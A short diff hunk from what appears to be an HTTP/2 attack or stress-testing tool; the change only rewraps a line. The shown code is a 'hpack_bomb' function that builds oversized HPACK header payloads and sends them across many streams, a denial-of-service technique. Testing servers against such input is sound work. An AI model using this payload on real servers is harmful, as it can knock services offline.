@@ -122,7 +122,8 @@ def hpack_bomb(a: Attack) -> None:
     bomb = a.block + b"\xbe" * 12000
     padded = a.block + b"\0\1x\x7f" + b"\x80" * 8000 + b"\0"
     first = wire.frame(wire.HEADERS, wire.END_HEADERS, 1, a.block + entry)
-    a.per_stream(lambda s: wire.frame(wire.HEADERS, wire.END_HEADERS, s + 2, padded if s % 64 == 63 else bomb), 1, first)
+    a.per_stream(lambda s: wire.frame(wire.HEADERS, wire.END_HEADERS, s + 2, padded if s % 64 == 63 else bomb), 1,
+                 first)
 
 
 def ping(a: Attack) -> None:
